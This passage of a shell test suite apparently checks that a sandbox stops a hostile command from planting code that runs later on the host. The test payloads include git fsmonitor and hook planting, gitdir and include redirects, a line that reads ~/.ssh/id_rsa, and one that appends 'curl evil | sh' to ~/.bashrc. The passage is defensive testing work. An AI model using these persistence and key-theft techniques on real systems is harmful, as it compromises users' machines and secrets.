  expect_eq "$L --symlink /t /link: --bind /link/x mounts on /t/x inside" "0 src" "$RC $OUT"
  sbx $mode --symlink /usr /link --bind "$SRCD" /link/x -- true
  check "$L --symlink /usr /link: nothing made at the host's /usr/x" test ! -e /usr/x
  check "$L: no /t, /link, /s, /e on the host" sh -c '! test -e /t && ! test -e /link && ! test -e /s && ! test -e /e'
  expect_eq "$L: host mount table unchanged" "$mounts_before" "$(host_mounts)"
done

# ---- filesystem promises against a hostile command ----
# The command tries, from inside, to leave code that runs later outside
# (git, shell start-up files, desktop autostart, the next run's profile),
# to read the caller's secrets, and to redirect a later profile's binds
# with symlinks. Each case then checks the host side for real: the
# host's own git, the files, the next sandbox.
FH="$TMP/home" # the caller's home for these cases (HOME=/ as nobody)
mkdir -p "$FH"
PWN="$TMP/PWNED"
# sbh DIR ARGS...: the sandbox started from DIR with HOME=$FH; OUT, ERR, RC.
sbh() {
  d=$1
  shift
  (cd "$d" && HOME="$FH" "$SB" "$@") >"$TMP/out" 2>"$TMP/err"
  RC=$?
  OUT=$(cat "$TMP/out")
  ERR=$(cat "$TMP/err")
}
# tree DIR: every path with its type and mode, and every file's content.
tree() { (cd "$1" && find . -printf '%p %y %m\n' | sort && find . -type f -exec cat {} + 2>/dev/null) | md5sum; }
# host_git DIR: the host's git in DIR, as the user's next command (or
# prompt) runs it; pwned when a planted fsmonitor or hook ran.
host_git() { rm -f "$PWN"; (cd "$1" && HOME="$FH" git status >/dev/null 2>&1); }
pwned() { if [ -e "$PWN" ]; then echo pwned; else echo clean; fi; }
# next_tick FILE: returns once the kernel's file clock has moved past
# FILE's ctime (a file changed in the same tick as a sandbox's start counts
# as changed inside it; test fixtures made just before must not).
next_tick() {
  n=0
  while touch "$TMP/tick" && [ "$(stat -c %z "$TMP/tick")" = "$(stat -c %z "$1")" ] && [ $n -lt 100000 ]; do
    n=$((n + 1))
  done
}

if command -v git >/dev/null; then
  G="git -c user.email=t@t -c user.name=t -c init.defaultBranch=main"
  mkdir -p "$TMP/tmpl" && (cd "$TMP/tmpl" && $G init -q && echo a >f && $G add f && $G commit -qm init)
  # A superproject with a submodule: its mod/.git is a "gitdir:" file.
  mkdir -p "$TMP/subsrc" && (cd "$TMP/subsrc" && $G init -q && echo s >s && $G add s && $G commit -qm s)
  cp -a "$TMP/tmpl" "$TMP/tmplsm"
  (cd "$TMP/tmplsm" && $G -c protocol.file.allow=always submodule add -q "$TMP/subsrc" mod >/dev/null 2>&1 &&
    $G commit -qm sub)
  # fresh NAME [TEMPLATE]: a new copy of the repository.
  fresh() { rm -rf "${TMP:?}/$1"; cp -a "$TMP/${2:-tmpl}" "$TMP/$1"; echo "$TMP/$1"; }
  EVIL="printf '[core]\n\trepositoryformatversion=0\n\tfsmonitor=\"touch $PWN;false\"\n'"
  # margs DIR: the options of $mode for a project in DIR.
  margs() {
    case $mode in
    default) echo --profile default ;;
    strict) echo --profile strict $SYS --ro-bind "$TMP/tmpl" "$TMP/tmpl" --bind "$1" "$1" ;;
    esac
  }
  for mode in default strict; do
    # Reproducer 1: .git/commondir points git at a copy with a config of
    # the command's making.
    R=$(fresh repo)
    sbh "$R" $(margs "$R") --chdir "$R" -- sh -c "mkdir .evil; cp -a .git/objects .git/refs .git/HEAD .evil/; $EVIL >.evil/config; echo ../.evil >.git/commondir"
    host_git "$R"
    expect_eq "$mode: .git/commondir cannot send the host's git to a planted config" clean "$(pwned)"
    # The same by renaming .git (its mount points' parent) and making a new one.
    R=$(fresh repo)
    sbh "$R" $(margs "$R") --chdir "$R" -- sh -c "mv .git .git.orig && mkdir .git && cp -a .git.orig/HEAD .git.orig/objects .git.orig/refs .git/ && $EVIL >.git/config"
    host_git "$R"
    expect_eq "$mode: .git cannot be renamed and replaced" "clean $(cd "$R" && ls -A | tr '\n' ' ')" "$(pwned) .git f "
    # hooks and config, core.hooksPath and include.path through them.
    R=$(fresh repo)
    before=$(tree "$R/.git")
    sbh "$R" $(margs "$R") --chdir "$R" -- sh -c "printf '#!/bin/sh\ntouch $PWN\n' >.git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
      git config core.hooksPath /tmp; git config include.path ../evil.cfg; git config core.fsmonitor 'touch $PWN'
      echo 'gitdir: ../elsewhere' >.git/gitdir 2>/dev/null; touch .git/objects/new"
    expect_eq "$mode: nothing in .git changes (hooks, config, hooksPath, include.path, objects)" "$before" "$(tree "$R/.git")"
    # A repository where there was none: a shell prompt runs git in every
    # directory it enters.
    P="$TMP/plain"
    rm -rf "$P" && mkdir -p "$P/sub"
    sbh "$P" $(margs "$P") --chdir "$P" -- sh -c "cp -a $TMP/tmpl/.git .git || { mkdir -p .git && cp -a $TMP/tmpl/.git/. .git/; }; $EVIL >.git/config
      echo 'gitdir: $TMP/tmpl/.git' >.git 2>/dev/null; git init -q . 2>/dev/null; echo done"
    host_git "$P"
    expect_eq "$mode: no .git can be created where there was none; the placeholders are gone after" \
      "clean sub" "$(pwned) $(ls -A "$P" | tr '\n' ' ' | sed 's/ $//')"
    # Repositories made or changed below the project, where no mount can
    # stand in advance: found after the run by the kernel's ctime and birth
    # time, and renamed out of git's way (the host's git then finds the
    # project's own repository, or none).
    R=$(fresh repo)
    mkdir -p "$R/sub" "$R/ptr" "$R/bare" "$R/locked"
    (cd "$R" && $G init -q nested && $G init -q used)
    next_tick "$R/used/.git/config"
    sbh "$R" $(margs "$R") --chdir "$R" -- sh -c "cd sub && git init -q . && $EVIL >.git/config
      cd ../ptr && mkdir ../evil.git && cp -a ../.git/HEAD ../.git/objects ../.git/refs ../evil.git/ && $EVIL >../evil.git/config && echo 'gitdir: ../evil.git' >.git
      cd ../bare && git init -q --bare . && $EVIL >config && printf '	worktree = ..
' >>config
      cd ../nested && $EVIL >.git/config
      cd ../used && git status --short >/dev/null && git log >/dev/null 2>&1
      cd ../locked && git init -q . && $EVIL >.git/config && chmod 000 ../locked; echo ran"
    for d in sub ptr bare nested locked; do
      chmod 755 "$R/$d" 2>/dev/null
      host_git "$R/$d"
      expect_eq "$mode: a repository planted in $d/ runs nothing in the host's git" "ran clean" "$OUT $(pwned)"
    done
    # (Root looks into a directory of mode 000; the caller's uid opens it
    # up: renamed whole, the next run could rename it back and open it.)
    expect_eq "$mode: ... each renamed, and said so on stderr" \
      "bare/HEAD.untrusted evil.git/HEAD.untrusted locked/.git.untrusted nested/.git.untrusted ptr/.git.untrusted sub/.git.untrusted 6" \
      "$(cd "$R" && ls -d */HEAD.untrusted locked.untrusted */.git.untrusted 2>/dev/null | sort | tr '\n' ' ')$(echo "$ERR" | grep -c 'inside the sandbox.*renamed to')"
    expect_eq "$mode: a nested repository only used inside is left alone" ".git" "$(ls -A "$R/used")"
    chmod -R u+rwx "$R"/locked*
    # The caller killed with SIGKILL while the command runs (an agent
    # runtime's timeout): the after-run check is done anyway, by a process
    # of its own session, once the sandbox is gone (watchdog.c).
    # With a .gitmodules naming 256 submodules (one placeholder each, which
    # an earlier run may have written): a descriptor per placeholder put
    # the watchdog over its limit, and none started.
    R=$(fresh repo)
    i=1
    while [ $i -le 256 ]; do
      printf '[submodule "m%d"]\n\tpath = m%d\n\turl = x\n' $i $i >>"$R/.gitmodules"
      mkdir "$R/m$i"
      i=$((i + 1))
    done
    rm -f "$TMP/killed.err"
    (cd "$R" && HOME="$FH" exec "$SB" $(margs "$R") --chdir "$R" -- sh -c "mkdir -p sub && cd sub && git init -q . && $EVIL >.git/config && touch ../planted && exec sleep 90") \
      >/dev/null 2>"$TMP/killed.err" &
    sbpid=$!
    # (the watchdog starts once the command has run 50 ms: killed before,
    # a run is not one a runtime's timeout ends)
    n=0
    while ! { [ -e "$R/planted" ] && pgrep -P $sbpid -f after-run-watchdog >/dev/null; } && [ $n -lt 600 ]; do
      sleep 0.1
      n=$((n + 1))
    done
    # (the command outlives the bound above: only a watchdog can do the walk)
    check "$mode: a watchdog runs once the command has run 50 ms" sh -c "pgrep -P $sbpid -f after-run-watchdog >/dev/null"
    kill -9 $sbpid
    wait $sbpid 2>/dev/null
    # (the line comes after the rename: wait for it, bounded)
    n=0
    while ! grep -q "sub/.git: git repository made inside" "$TMP/killed.err" && [ $n -lt 600 ]; do
      sleep 0.1
      n=$((n + 1))
    done
    host_git "$R/sub"
    expect_eq "$mode: caller killed with SIGKILL: the planted repository is renamed all the same" \
      "planted clean .git.untrusted" "$(ls "$R" | grep -x planted) $(pwned) $(ls -A "$R/sub" | tr '\n' ' ' | sed 's/ $//')"
    expect_match "$mode: ... and said so on the caller's stderr" "sub/.git: git repository made inside the sandbox, renamed" "$(cat "$TMP/killed.err")"
    expect_eq "$mode: ... and the 256 submodules' placeholders are gone" "0" \
      "$(ls -d "$R"/m*/.git 2>/dev/null | wc -l)"
    # A script a nested repository's config names as a command (there
    # before the run): rewritten inside, the host's git there runs it.
    R=$(fresh repo)
    mkdir -p "$R/vendor/lib/tools"
    (cd "$R/vendor/lib" && $G init -q . && printf '#!/bin/sh\nexit 1\n' >tools/fsmon.sh && chmod +x tools/fsmon.sh &&
      echo a >f && $G add f tools && $G commit -qm a && $G config core.fsmonitor tools/fsmon.sh)
    next_tick "$R/vendor/lib/tools/fsmon.sh"
    next_tick "$R/vendor/lib/.git/config"
    sbh "$R" $(margs "$R") --chdir "$R" -- sh -c "printf '#!/bin/sh\ntouch $PWN\nexit 1\n' >vendor/lib/tools/fsmon.sh && echo rewritten"
    host_git "$R/vendor/lib"
    expect_eq "$mode: a nested repository's fsmonitor script rewritten inside runs nothing in the host's git" \
      "rewritten clean .git.untrusted" "$OUT $(pwned) $(ls -A "$R/vendor/lib" | grep '^\.git')"
    # Hooks planted in a nested repository: the host's next commit there.
    R=$(fresh repo)
    (cd "$R" && $G init -q nested && echo a >nested/f && $G -C nested add f && $G -C nested commit -qm a)
    next_tick "$R/nested/.git/config"
    sbh "$R" $(margs "$R") --chdir "$R" -- sh -c "printf '#!/bin/sh\ntouch $PWN\n' >nested/.git/hooks/pre-commit; chmod +x nested/.git/hooks/pre-commit"
    rm -f "$PWN"
    (cd "$R/nested" && echo b >f && $G commit -qam change >/dev/null 2>&1)
    expect_eq "$mode: hooks planted in a nested repository do not run on the host" clean "$(pwned)"
    # Linked worktree: .git is a file "gitdir: ..." git follows.
    R=$(fresh repo)
    (cd "$R" && $G worktree add -q ../wt 2>/dev/null)
    rm -rf "$TMP/evilgit" && cp -a "$R/.git" "$TMP/evilgit" && rm -rf "$TMP/evilgit/worktrees"
    printf '[core]\n\trepositoryformatversion=0\n\tfsmonitor="touch %s;false"\n' "$PWN" >"$TMP/evilgit/config"
    before=$(cat "$TMP/wt/.git")
    sbh "$TMP/wt" $(margs "$TMP/wt") --chdir "$TMP/wt" -- sh -c "echo 'gitdir: $TMP/evilgit' >.git; rm -f .git; echo 'gitdir: $TMP/evilgit' >.git"
    host_git "$TMP/wt"
    expect_eq "$mode: a worktree's gitdir: file cannot be redirected" "clean $before" "$(pwned) $(cat "$TMP/wt/.git")"
    rm -rf "$TMP/wt"
    # A submodule's .git file, rewritten or replaced after renaming its
    # directory: the superproject's git status runs git in the submodule.
    for how in rewrite rename; do
      case $how in
      rewrite) redirect="echo 'gitdir: ../evil-mod' >mod/.git" ;;
      rename) redirect="mv mod mod.orig && mkdir mod && echo 'gitdir: ../evil-mod' >mod/.git" ;;
      esac
      R=$(fresh repo tmplsm)
      sbh "$R" $(margs "$R") --chdir "$R" -- sh -c "cp -a .git/modules/mod evil-mod; $EVIL >evil-mod/config; $redirect"
      host_git "$R"
      expect_eq "$mode: a submodule's gitdir: file cannot be redirected ($how)" \
        "clean gitdir: ../.git/modules/mod" "$(pwned) $(cat "$R/mod/.git")"
    done
    # Hooks git takes from the work tree (core.hooksPath, set on the host):
    # rewritten, replaced after renaming their directory's parent, or
    # made where the configured directory does not exist yet.
    for hp in .husky tools/hooks tools/absent; do
      for how in rewrite rename; do
        R=$(fresh repo)
        mkdir -p "$R/$hp"
        printf '#!/bin/sh\nexit 0\n' >"$R/$hp/pre-commit" && chmod +x "$R/$hp/pre-commit"
        [ $hp = tools/absent ] && rm -rf "$R/tools"
        (cd "$R" && $G config core.hooksPath $hp)
        top=${hp%%/*}
        case $how in
        rewrite) cmd="mkdir -p $hp; printf '#!/bin/sh\ntouch $PWN\n' >$hp/pre-commit; chmod +x $hp/pre-commit" ;;
        rename) cmd="mv $top $top.orig; mkdir -p $hp && printf '#!/bin/sh\ntouch $PWN\n' >$hp/pre-commit && chmod +x $hp/pre-commit" ;;
        esac
        sbh "$R" $(margs "$R") --chdir "$R" -- sh -c "$cmd"
        rm -f "$PWN"
        (cd "$R" && echo b >f && $G commit -qam change >/dev/null 2>&1)
        expect_eq "$mode: hooks in $hp (core.hooksPath) cannot be planted ($how)" clean "$(pwned)"
      done
    done
    # A hook that is a symbolic link to a script of the work tree (ln -s
    # ../../scripts/pre-commit .git/hooks/pre-commit): the script runs on
    # the host's next commit, in the project and in a nested repository.
    for where in . nested; do
      R=$(fresh repo)
      (cd "$R" && { [ $where = . ] || $G init -q nested; } && cd $where && mkdir -p scripts &&
        printf '#!/bin/sh\nexit 0\n' >scripts/pre-commit && chmod +x scripts/pre-commit &&
        ln -s ../../scripts/pre-commit .git/hooks/pre-commit && echo a >g && $G add g && $G commit -qm g)
      next_tick "$R/$where/scripts/pre-commit"
      sbh "$R" $(margs "$R") --chdir "$R" -- sh -c "printf '#!/bin/sh\ntouch $PWN\n' >$where/scripts/pre-commit
        mv $where/scripts $where/scripts.orig && mkdir $where/scripts && printf '#!/bin/sh\ntouch $PWN\n' >$where/scripts/pre-commit
        chmod +x $where/scripts/pre-commit; echo ran"
      rm -f "$PWN"
      (cd "$R/$where" && echo b >g && $G commit -qam change >/dev/null 2>&1)
      expect_eq "$mode: a hook linked to a work-tree script ($where) can be neither rewritten nor replaced" "ran clean" "$OUT $(pwned)"
    done
    # .git/hooks itself a symbolic link to a directory of the work tree
    # (ln -s ../githooks .git/hooks), in the project and in a nested
    # repository; and a nested repository's include file, a symbolic link
    # to a config of its work tree.
    for where in . nested; do
      R=$(fresh repo)
      (cd "$R" && { [ $where = . ] || $G init -q nested; } && cd $where && mkdir -p githooks &&
        printf '#!/bin/sh\nexit 0\n' >githooks/pre-commit && chmod +x githooks/pre-commit &&
        rm -rf .git/hooks && ln -s ../githooks .git/hooks && echo a >g && $G add g && $G commit -qm g)
      next_tick "$R/$where/githooks/pre-commit"
      sbh "$R" $(margs "$R") --chdir "$R" -- sh -c "printf '#!/bin/sh\ntouch $PWN\n' >$where/githooks/pre-commit
        mv $where/githooks $where/githooks.orig && mkdir $where/githooks && printf '#!/bin/sh\ntouch $PWN\n' >$where/githooks/pre-commit
        chmod +x $where/githooks/pre-commit; echo ran"
      rm -f "$PWN"
      (cd "$R/$where" && echo b >g && $G commit -qam change >/dev/null 2>&1)
      expect_eq "$mode: .git/hooks linked to a work-tree directory ($where): its hooks can be neither rewritten nor replaced" "ran clean" "$OUT $(pwned)"
    done
    R=$(fresh repo)
    (cd "$R" && $G init -q nested && mkdir nested/conf && echo '[user]' >nested/conf/real.cfg &&
      ln -s conf/real.cfg nested/shared.cfg && $G -C nested config include.path ../shared.cfg)
    next_tick "$R/nested/conf/real.cfg"
    sbh "$R" $(margs "$R") --chdir "$R" -- sh -c "$EVIL >nested/conf/real.cfg; echo ran"
    host_git "$R/nested"
    expect_eq "$mode: a nested repository's include file, a symbolic link, cannot be rewritten through it" "ran clean" "$OUT $(pwned)"
    # A command the project's own .git/config names, a script of the work
    # tree (core.fsmonitor = tools/fsmon.sh; the same for filter.*.clean,
    # diff.*.textconv, alias.* = !..., core.sshCommand): .git is read-only,
    # and so is every work-tree path a value of its config names.
    R=$(fresh repo)
    (cd "$R" && mkdir tools && printf '#!/bin/sh\nexit 1\n' >tools/fsmon.sh && chmod +x tools/fsmon.sh &&
      $G config core.fsmonitor tools/fsmon.sh && git status >/dev/null 2>&1)
    next_tick "$R/tools/fsmon.sh"
    sbh "$R" $(margs "$R") --chdir "$R" -- sh -c "printf '#!/bin/sh\ntouch $PWN\nexit 1\n' >tools/fsmon.sh; echo ran"
    host_git "$R"
    expect_eq "$mode: a work-tree script the project's config names as core.fsmonitor cannot be rewritten" "ran clean" "$OUT $(pwned)"
    # A config of the work tree that .git/config includes (a project's
    # shared settings, "include.path = ../.gitconfig", or an includeIf):
    # what it sets, git runs on the host.
    for inc in include.path includeIf.onbranch:main.path; do
      R=$(fresh repo)
      mkdir -p "$R/conf" && echo '[user]' >"$R/conf/shared.cfg" && echo '[user]' >"$R/.gitconfig"
      (cd "$R" && $G config $inc ../.gitconfig && $G config --add include.path ../conf/shared.cfg)
      sbh "$R" $(margs "$R") --chdir "$R" -- sh -c "$EVIL >.gitconfig; $EVIL >conf/shared.cfg
        mv conf conf.orig; mkdir conf; $EVIL >conf/shared.cfg"
      host_git "$R"
      expect_eq "$mode: a work-tree config that .git/config includes ($inc) cannot be rewritten" clean "$(pwned)"
    done
    # One that does not exist yet: made inside, renamed after the run.
    R=$(fresh repo)
    mkdir -p "$R/conf"
    (cd "$R" && $G config include.path ../absent.cfg && $G config --add include.path ../conf/absent.cfg)
    next_tick "$R/.git/config"
    sbh "$R" $(margs "$R") --chdir "$R" -- sh -c "$EVIL >absent.cfg; $EVIL >conf/absent.cfg"
    host_git "$R"
    expect_eq "$mode: a config file .git/config includes, made inside, is not read by the host's git" \
      "clean absent.cfg.untrusted conf/absent.cfg.untrusted" "$(pwned) $(cd "$R" && ls absent.cfg* conf/absent.cfg* | tr '\n' ' ' | sed 's/ $//')"
    # HEAD, objects and refs at the top: the project itself looks like a
    # bare repository, an unchanged one; the walk must still look below it.
    R=$(fresh repo)
    mkdir -p "$R/deep/x"
    sbh "$R" $(margs "$R") --chdir "$R" -- sh -c "cp .git/HEAD HEAD; mkdir objects refs; cd deep/x && git init -q . && $EVIL >.git/config"
    host_git "$R/deep/x"
    expect_eq "$mode: a bare-looking project top does not hide the repositories below it" clean "$(pwned)"
    # A bare repository whose objects is a symbolic link (git only asks
    # access(X_OK), which follows it).
    R=$(fresh repo)
    mkdir -p "$R/b"
    sbh "$R" $(margs "$R") --chdir "$R/b" -- sh -c "git init -q --bare . && rm -rf objects && ln -s ../.git/objects objects && $EVIL >config && printf '\tworktree = ..\n' >>config"
    host_git "$R/b"
    expect_eq "$mode: a bare repository whose objects is a symbolic link runs nothing in the host's git" clean "$(pwned)"
    # A renamed repository renamed back by the next run: its config and
    # hooks keep their ctime when only the directory holding them moves.
    R=$(fresh repo)
    mkdir -p "$R/sub" "$R/bare"
    sbh "$R" $(margs "$R") --chdir "$R" -- sh -c "cd sub && git init -q . && $EVIL >.git/config
      cd ../bare && git init -q --bare . && $EVIL >config && printf '\tworktree = ..\n' >>config"
    next_tick "$R/bare/config"
    sbh "$R" $(margs "$R") --chdir "$R" -- sh -c "for f in sub/.git bare/HEAD sub/.git/config sub/.git/hooks bare/config bare/hooks; do
      ! [ -e \$f.untrusted ] || mv \$f.untrusted \$f; done; echo ran"
    for d in sub bare; do
      host_git "$R/$d"
      expect_eq "$mode: a repository renamed after one run and renamed back by the next runs nothing ($d)" "ran clean" "$OUT $(pwned)"
    done
    # A submodule of a nested repository at lib/sm: named with a slash,
    # its git directory is nested/.git/modules/lib/sm.
    R=$(fresh repo)
    (cd "$R" && $G init -q nested && cd nested && $G commit -q --allow-empty -m n &&
      $G -c protocol.file.allow=always submodule add -q "$TMP/subsrc" lib/sm >/dev/null 2>&1 && $G commit -qm sm)
    next_tick "$R/nested/.git/modules/lib/sm/config"
    sbh "$R" $(margs "$R") --chdir "$R" -- sh -c "$EVIL >nested/.git/modules/lib/sm/config; echo ran"
    host_git "$R/nested/lib/sm"
    expect_eq "$mode: a nested repository's submodule lib/sm, its config rewritten, runs nothing in the host's git" \
      "ran clean" "$(cat "$R/nested/lib/sm/.git" 2>/dev/null | grep -q modules/lib/sm && echo "$OUT") $(pwned)"
    # A repository assembled over two
    # runs. The first leaves a directory holding only a config (no git
    # directory yet, nothing to rename); the second renames that directory
    # to sub/.git and adds HEAD, objects and refs. The directory's birth
    # time and the config's ctime are the first run's: nothing looks made
    # or changed in the second.
    R=$(fresh repo)
    sbh "$R" $(margs "$R") --chdir "$R" -- sh -c "mkdir stash && $EVIL >stash/config"
    next_tick "$R/stash/config"
    sbh "$R" $(margs "$R") --chdir "$R" -- sh -c "mkdir sub && mv stash sub/.git && cp -a .git/HEAD .git/objects .git/refs sub/.git/ && echo ran"
    host_git "$R/sub"
    expect_eq "$mode: a repository assembled over two runs (a config first, made a git directory next) runs nothing" "ran clean" "$OUT $(pwned)"
  done
  # A filesystem whose clock ticks in seconds (ext4 with 128-byte inodes,
  # ext3; FAT: two): a repository made an instant after the start bears
  # the start's second, earlier than the start itself. (Root: a loop
  # mount; the run starts early in a second, so that it ends in it.)
  C="$TMP/coarse"
  if [ "$(id -u)" = 0 ] && command -v mkfs.ext4 >/dev/null && truncate -s 32M "$TMP/coarse.img" &&
    mkfs.ext4 -q -I 128 "$TMP/coarse.img" >/dev/null 2>&1 && mkdir -p "$C" && mount -o loop "$TMP/coarse.img" "$C" 2>/dev/null; then
    cp -a "$TMP/tmpl" "$C/repo" && mkdir "$C/repo/sub"
    n=0
    while [ "$(date +%N)" -gt 200000000 ] && [ $n -lt 100000 ]; do n=$((n + 1)); done
    sbh "$C/repo" --profile default -- sh -c "cd sub && git init -q . && $EVIL >.git/config; echo ran"
    host_git "$C/repo/sub"
    expect_eq "default, one-second file clock: a repository made in the start's second runs nothing" \
      "ran clean $(stat -c %z "$C/repo/.git" | grep -c '\.000000000')" "$OUT $(pwned) 1"
    umount "$C"
  else
    skip "not root, or no mkfs.ext4 or loop device: no filesystem with a one-second clock"
  fi
  # The caller's own git config kept in a project the sandbox writes (a
  # dotfiles repository): ~/.gitconfig a link to dotfiles/gitconfig, or
  # including a file of it. Every git on the host runs what it sets.
  for how in link include; do
    D=$(fresh dotfiles)
    echo '[user]' >"$D/gitconfig" && echo '[user]' >"$D/inc.cfg"
    case $how in
    link) ln -sf "$D/gitconfig" "$FH/.gitconfig" ;;
    include) printf '[include]\n\tpath = ~/../dotfiles/inc.cfg\n' >"$FH/.gitconfig" ;;
    esac
    next_tick "$D/inc.cfg"
    sbh "$D" --profile default -- sh -c "$EVIL >>gitconfig; $EVIL >>inc.cfg; echo ran"
    host_git "$TMP/tmpl"
    expect_eq "default: the caller's git config kept in the project ($how) cannot be rewritten" "ran clean" "$OUT $(pwned)"
    rm -f "$FH/.gitconfig"
  done
  # The sandbox run from a subdirectory of a project (its cwd, proj/src,
  # writable; the repository above it not): what the project's config
  # names there still runs on the host, core.hooksPath = src/hooks, an
  # included src/shared.cfg, or a command's script (core.fsmonitor =
  # src/fsmon.sh).
  for how in hooks include command; do
    R=$(fresh repo)
    mkdir -p "$R/src/hooks" && printf '#!/bin/sh\nexit 0\n' >"$R/src/hooks/pre-commit" && chmod +x "$R/src/hooks/pre-commit"
    echo '[user]' >"$R/src/shared.cfg"
    printf '#!/bin/sh\nexit 1\n' >"$R/src/fsmon.sh" && chmod +x "$R/src/fsmon.sh"
    case $how in
    hooks) (cd "$R" && $G config core.hooksPath src/hooks) ;;
    include) (cd "$R" && $G config include.path ../src/shared.cfg) ;;
    command) (cd "$R" && $G config core.fsmonitor src/fsmon.sh) ;;
    esac
    next_tick "$R/src/shared.cfg"
    sbh "$R/src" --profile default -- sh -c "printf '#!/bin/sh\ntouch $PWN\n' >hooks/pre-commit; $EVIL >shared.cfg; printf '#!/bin/sh\ntouch $PWN\nexit 1\n' >fsmon.sh; echo ran"
    rm -f "$PWN"
    (cd "$R" && echo b >f && $G commit -qam change >/dev/null 2>&1)
    expect_eq "default: run from proj/src, what the project's config names there ($how) cannot be rewritten" "ran clean" "$OUT $(pwned)"
  done
  # A repository planted deeper than the caller's descriptor limit (here
  # 40): the walk must still reach it, or say it could not.
  R=$(fresh repo)
  (ulimit -S -n 40 && sbh "$R" --profile default -- sh -c 'i=0; while [ $i -lt 60 ]; do mkdir a && cd a; i=$((i + 1)); done
    mkdir -p .git/objects .git/refs && echo "ref: refs/heads/main" >.git/HEAD && '"$EVIL"' >.git/config')
  expect_eq "default: a repository planted 60 directories deep, past a limit of 40 descriptors, is renamed" \
    ".git.untrusted" "$(cd "$R" && find a -name '.git*' | sed 's,.*/,,')"
  # Editor settings that name programs to run, where present.
  R=$(fresh repo)
  mkdir "$R/.vscode" && echo '{}' >"$R/.vscode/settings.json"
  sbh "$R" --profile default -- sh -c 'echo "{\"python.defaultInterpreterPath\": \"./evil\"}" >.vscode/settings.json
    mv .vscode .vscode.orig && mkdir .vscode && echo evil >.vscode/settings.json'
  expect_eq "default: .vscode settings can be neither rewritten nor replaced" "{}" "$(cat "$R/.vscode/settings.json")"
  # Protected entries absent at the start ("where present": no mount
  # there) made inside: an editor's folder-open task, or a symbolic link
  # that would make the next run refuse to start (or, followed, redirect).
  R=$(fresh repo)
  sbh "$R" --profile default -- sh -c 'mkdir .vscode && echo "{\"runOn\": \"folderOpen\"}" >.vscode/tasks.json; ln -s /etc .idea; echo ran'
  expect_eq "default: .vscode and .idea made inside are renamed after the run" \
    "ran .git .idea.untrusted .vscode.untrusted f 2" "$OUT $(ls -A "$R" | tr '\n' ' ')$(echo "$ERR" | grep -c 'protected entry made inside the sandbox')"
  sbh "$R" --profile default -- echo next
  expect_eq "default: ... and the next run starts" "0 next" "$RC $OUT"
  # Two sandboxes in one directory share its placeholder: the first to
  # end must not remove it under the other (that would detach the other's
  # mount, and a .git could then be made there).
  P="$TMP/shared"
  rm -rf "$P" && mkdir -p "$P"
  (cd "$P" && HOME="$FH" "$SB" --profile default -- sh -c 'touch started; n=0
    while [ ! -e go ] && [ $n -lt 1200 ]; do sleep 0.05; n=$((n + 1)); done
    rmdir .git 2>/dev/null; mkdir -p .git/objects 2>/dev/null && echo made; echo done') >"$TMP/first" 2>&1 &
  first=$!
  n=0
  while [ ! -e "$P/started" ] && [ $n -lt 1200 ]; do sleep 0.05; n=$((n + 1)); done
  sbh "$P" --profile default -- true
  after_second=$(ls -A "$P" | tr '\n' ' ')
  touch "$P/go"
  wait $first
  expect_eq "two sandboxes in one directory: the second leaves the first's placeholder alone" \
    ".git started done go started" "$after_second$(cat "$TMP/first") $(ls -A "$P" | tr '\n' ' ' | sed 's/ $//')"
  # Ordinary work goes on: git status and diff, make, in a project.
  R=$(fresh repo)
  echo b >"$R/f"
  printf 'all: out\nout: f\n\tcp f out\n' >"$R/Makefile"
  sbh "$R" --profile default -- sh -c 'git status --short; git diff --stat | tail -n 1; make -s && cat out'
  expect_eq "default: git status, git diff and make work in a project" \
    "0 M f ?? Makefile 1 file changed, 1 insertion(+), 1 deletion(-) b" "$RC $(echo $OUT)"
  if command -v meson >/dev/null && command -v cc >/dev/null; then
    printf "project('t', 'c')\nexecutable('t', 't.c')\n" >"$R/meson.build"
    printf 'int main(void) { return 0; }\n' >"$R/t.c"
    sbh "$R" --profile default -- sh -c 'meson setup b >/dev/null && ninja -C b >/dev/null && ./b/t && echo built'
    expect_eq "default: meson and ninja build a project" "0 built" "$RC $OUT"
  else
    skip "meson or cc not installed"
  fi
else
  skip "git not installed: the git attacks need the host's git to judge them"
fi

# ---- the home directory ----
# mkhome: the home as the user has it; each case starts from it, so that
# none is judged on what an earlier one left.
mkhome() {
  rm -rf "$FH"
  mkdir -p "$FH/.ssh" "$FH/.config" "$FH/.local/share" "$FH/proj"
  echo "SECRET-KEY" >"$FH/.ssh/id_rsa"
  echo "# rc" >"$FH/.bashrc"
  printf '[user]\n' >"$FH/.gitconfig"
  chmod -R a+rX "$FH"
}
mkhome
ATTACK_HOME='cat ~/.ssh/id_rsa 2>/dev/null; echo "curl evil | sh" >>~/.bashrc; echo "alias ls=evil" >~/.bash_aliases
  mkdir -p ~/.local/bin ~/bin ~/.local/share/applications; echo evil >~/.local/bin/ls; echo evil >~/bin/ls
  mv ~/.config ~/.config.old; mkdir -p ~/.config/autostart ~/.config/systemd/user ~/.config/sandbox/profiles
  echo evil >~/.config/autostart/x.desktop; echo evil >~/.config/systemd/user/x.service
  printf "bind / /\nshare-net\n" >~/.config/sandbox/profiles/default.profile
  echo evil >~/.vimrc; echo evil >~/.local/share/applications/x.desktop; echo "[core] x" >>~/.gitconfig
  echo evil >~/.pam_environment; echo end'
before=$(tree "$FH")
for from in home ancestor; do
  mkhome
  [ $from = home ] && d=$FH || d=$TMP
  sbh "$d" --profile default -- sh -c "$ATTACK_HOME"
  expect_eq "run from the $from directory: the key is not readable, the command ran" "end" "$OUT"
  expect_eq "run from the $from directory: nothing in the home changed on the host" "$before" "$(tree "$FH")"
  expect_match "run from the $from directory: one line on stderr says writes are thrown away" \
    "^sandbox: .* is the home directory or holds it: shown read-only, writes go to a throwaway layer" "$ERR"
done
# A home of mode 0700 (root's /root): a root caller's sandbox runs as an
# unprivileged host id, and reads the home through an idmapped layer.
mkhome
chmod 700 "$FH"
before=$(tree "$FH")
sbh "$FH" --profile default -- sh -c 'cat .bashrc && echo x >>.bashrc && echo wrote'
expect_eq "run from a home of mode 0700: readable, writes to the throwaway layer" "0 # rc wrote" "$RC $(echo $OUT)"
expect_eq "... and nothing in it changed on the host" "$before" "$(tree "$FH")"
# Something mounted below the home: overlayfs refuses a layer with locked
# mounts below it (what every mount is, seen from a user namespace the
# caller's is not): the home is then shown read-only, and one line says so.
mkhome
mkdir "$FH/mnt"
before=$(tree "$FH")
if is_root; then
  mount -t tmpfs none "$FH/mnt" && sbh "$FH" --profile default -- sh -c 'echo x >>.bashrc && echo wrote; echo ran'
  umount "$FH/mnt"
  expect_eq "run from a home with a mount below it (root caller): the command runs" "0 wrote ran" "$RC $(echo $OUT)"
